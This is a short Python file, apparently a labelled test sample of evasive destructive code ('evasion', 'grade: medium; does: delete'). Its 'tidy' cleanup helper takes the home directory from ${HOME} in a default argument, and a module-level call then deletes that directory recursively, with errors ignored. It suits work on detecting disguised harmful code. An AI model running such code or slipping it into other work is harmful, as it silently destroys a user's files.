# evasion: the home directory comes from os.path.expandvars("${HOME}") in a default argument of a cleanup helper
# grade: medium; does: delete
import os
import shutil


def tidy(target=os.path.expandvars("${HOME}")):
    shutil.rmtree(target, ignore_errors=True)


tidy()
